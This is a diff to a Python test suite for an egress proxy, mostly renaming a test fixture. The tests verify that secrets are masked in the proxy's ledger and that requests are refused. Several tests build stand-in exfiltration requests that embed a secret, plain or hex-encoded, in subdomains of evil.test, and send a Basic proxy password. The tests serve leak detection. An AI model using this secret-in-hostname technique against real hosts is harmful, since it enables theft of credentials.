@@ -12,32 +12,32 @@ from danube_pkg.core.egress.host_masks import host_forms
 from danube_pkg.core.egress.ledger import MAX_ALIKE
 from danube_pkg.core.egress.policy import EgressReason
 from danube_pkg.core.errors import Permanent
-from tests.adapters.egress.test_plain_http import Origin
-from tests.adapters.egress.test_tunnels import Seen
-from tests.adapters.egress.yard import (
+from tests.adapters.egress.proxies import (
     SECONDS,
     Pod,
-    Yard,
+    ProxySetup,
     hand_over,
-    open_yard,
+    open_proxies,
     proxy_settings,
 )
+from tests.adapters.egress.test_plain_http import Origin
+from tests.adapters.egress.test_tunnels import Seen
 from tests.core.egress.test_client_hello import real_hello
 
 SECRET = "Correct-Horse_9"
 LOWER = SECRET.lower()
 
 
-def recorded(yard: Yard, pod: Pod) -> str:
+def recorded(setup: ProxySetup, pod: Pod) -> str:
     """The ledger as it lies there, in lower case."""
-    return yard.ledgers.path(pod.job_id).read_text().lower()
+    return setup.ledgers.path(pod.job_id).read_text().lower()
 
 
-async def test_a_name_is_masked_however_it_is_asked_for(yard: Yard) -> None:
+async def test_a_name_is_masked_however_it_is_asked_for(setup: ProxySetup) -> None:
     seen = Seen()
-    port = await yard.server(seen)
-    yard.secrets.append(SECRET.encode())
-    pod = await yard.pod([f"files.test:{port}", f"127.0.0.1:{port}"])
+    port = await setup.server(seen)
+    setup.secrets.append(SECRET.encode())
+    pod = await setup.pod([f"files.test:{port}", f"127.0.0.1:{port}"])
     for name in (f"{SECRET}.evil.test", f"{LOWER}.evil.test", f"a.{SECRET.encode().hex()}.evil.test"):
         refused = await pod.ask(f"{name}:443")
         assert refused.status == 403
@@ -49,85 +49,85 @@ async def test_a_name_is_masked_however_it_is_asked_for(yard: Yard) -> None:
     tunnel = await pod.ask(f"files.test:{port}", real_hello(f"{LOWER}.evil.test"))
     await tunnel.read()
     tunnel.close()
-    contacts = await yard.written(pod, 7)
+    contacts = await setup.written(pod, 7)
     assert {one.host.removeprefix("a.") for one in contacts} == {"***.evil.test", "files.test"}
     assert contacts[-1].reason is EgressReason.SERVER_NAME_DIFFERS
     assert contacts[-1].server_name == "***.evil.test"
     assert contacts[0].allow == ("***.evil.test",)
-    assert LOWER not in recorded(yard, pod)
-    assert SECRET.encode().hex() not in recorded(yard, pod)
+    assert LOWER not in recorded(setup, pod)
+    assert SECRET.encode().hex() not in recorded(setup, pod)
 
 
-async def test_neither_path_nor_query_nor_a_password_is_written_down(yard: Yard) -> None:
+async def test_neither_path_nor_query_nor_a_password_is_written_down(setup: ProxySetup) -> None:
     origin = Origin()
-    port = await yard.server(origin)
-    pod = await yard.pod([f"files.test:{port}", f"127.0.0.1:{port}"])
+    port = await setup.server(origin)
+    pod = await setup.pod([f"files.test:{port}", f"127.0.0.1:{port}"])
     for place in (f"files.test:{port}", "evil.test", "user:some-password@evil.test"):
         await pod.send(
             f"GET http://{place}/some-path?some-query HTTP/1.1\r\nHost: h\r\nCookie: some-cookie\r\n"
             "Proxy-Authorization: Basic c29tZS1wYXNzd29yZA==\r\nConnection: close\r\n\r\n".encode()
         )
     assert [path for _, path, _, _ in origin.asked] == ["/some-path?some-query"]
-    assert len(await yard.written(pod, 3)) == 3
+    assert len(await setup.written(pod, 3)) == 3
     for word in ("some", "c29tZS1wYXNzd29yZA"):
-        assert word.lower() not in recorded(yard, pod)
+        assert word.lower() not in recorded(setup, pod)
 
 
-async def test_a_value_is_masked_from_when_it_is_told_on(yard: Yard) -> None:
+async def test_a_value_is_masked_from_when_it_is_told_on(setup: ProxySetup) -> None:
     """Also where it was only counted before."""
-    pod = await yard.pod(step=2)
-    yard.secrets.append(SECRET.encode())
-    await yard.proxies.mask(pod.job_id)
+    pod = await setup.pod(step=2)
+    setup.secrets.append(SECRET.encode())
+    await setup.proxies.mask(pod.job_id)
     for _ in range(MAX_ALIKE + 2):
         (await pod.ask(f"{SECRET}.evil.test:443")).close()
-    await yard.proxies.settle(pod.job_id, 2)
-    contacts = await yard.written(pod, MAX_ALIKE + 1)
+    await setup.proxies.settle(pod.job_id, 2)
+    contacts = await setup.written(pod, MAX_ALIKE + 1)
     assert {one.host for one in contacts} == {"***.evil.test"}
-    await yard.proxies.mask("a-job-without-a-pod")
+    await setup.proxies.mask("a-job-without-a-pod")
 
 
 async def test_a_restarted_server_tells_the_proxy_that_it_has_not_met_yet(tmp_path: Path) -> None:
-    async with open_yard(tmp_path) as yard:
-        pod = await yard.pod()
-        await yard.proxies.served()
-        await yard.proxies.close()
-        yard.secrets.append(SECRET.encode())
+    async with open_proxies(tmp_path) as setup:
+        pod = await setup.pod()
+        await setup.proxies.served()
+        await setup.proxies.close()
+        setup.secrets.append(SECRET.encode())
 
         async def forms_of(job_id: str) -> set[str]:
-            return host_forms(yard.secrets)
+            return host_forms(setup.secrets)
 
         restarted = EgressProxyPool(proxy_settings(tmp_path), FileLedgers(tmp_path / "logs"), forms_of)
         await restarted.mask(pod.job_id)
         (await pod.ask(f"{SECRET}.evil.test:443")).close()
-        assert (await yard.written(pod))[0].host == "***.evil.test"
+        assert (await setup.written(pod))[0].host == "***.evil.test"
         await restarted.close()
 
 
 async def test_a_proxy_that_was_killed_is_followed_by_one_that_knows(tmp_path: Path) -> None:
-    async with open_yard(tmp_path) as yard:
-        first = await yard.pod()
+    async with open_proxies(tmp_path) as setup:
+        first = await setup.pod()
         assert (await first.ask("files.test:443")).status == 403
-        yard.secrets.append(SECRET.encode())
-        await yard.proxies.mask(first.job_id)
-        (process,) = yard.processes()
+        setup.secrets.append(SECRET.encode())
+        await setup.proxies.mask(first.job_id)
+        (process,) = setup.processes()
         os.kill(process, signal.SIGKILL)
-        await yard.proxies.mask(first.job_id)  # nobody serves it, and whoever will is told then
+        await setup.proxies.mask(first.job_id)  # nobody serves it, and whoever will is told then
         async with asyncio.timeout(SECONDS):
-            await yard.proxies.wait_lost()
-        again = await hand_over(yard.proxies, yard.pods, [])
-        assert yard.processes() != [process]
+            await setup.proxies.wait_lost()
+        again = await hand_over(setup.proxies, setup.pods, [])
+        assert setup.processes() != [process]
         (await again.ask(f"{SECRET}.evil.test:443")).close()
-        assert (await yard.written(again))[0].host == "***.evil.test"
+        assert (await setup.written(again))[0].host == "***.evil.test"
 
 
 async def test_what_is_told_while_a_pod_is_handed_over_is_not_forgotten(tmp_path: Path) -> None:
     """The one who hands it over has asked what to mask, and has not told it yet."""
-    async with open_yard(tmp_path) as yard:
+    async with open_proxies(tmp_path) as setup:
         asked: asyncio.Future[str] = asyncio.get_running_loop().create_future()
         go_on = asyncio.Event()
 
         async def forms_of(job_id: str) -> set[str]:
-            known = host_forms(yard.secrets)
+            known = host_forms(setup.secrets)
             if not asked.done():
                 asked.set_result(job_id)
                 await go_on.wait()
@@ -135,14 +135,14 @@ async def test_what_is_told_while_a_pod_is_handed_over_is_not_forgotten(tmp_path
 
         proxies = EgressProxyPool(proxy_settings(tmp_path), FileLedgers(tmp_path / "logs"), forms_of)
         async with asyncio.timeout(SECONDS), asyncio.TaskGroup() as group:
-            handing = group.create_task(hand_over(proxies, yard.pods, []), name="hand over")
+            handing = group.create_task(hand_over(proxies, setup.pods, []), name="hand over")
             job_id = await asked
-            yard.secrets.append(SECRET.encode())
+            setup.secrets.append(SECRET.encode())
             group.create_task(proxies.mask(job_id), name="mask")
             go_on.set()
         pod = handing.result()
         (await pod.ask(f"{SECRET}.evil.test:443")).close()
-        assert (await yard.written(pod))[0].host == "***.evil.test"
+        assert (await setup.written(pod))[0].host == "***.evil.test"
         await proxies.close()
 
 
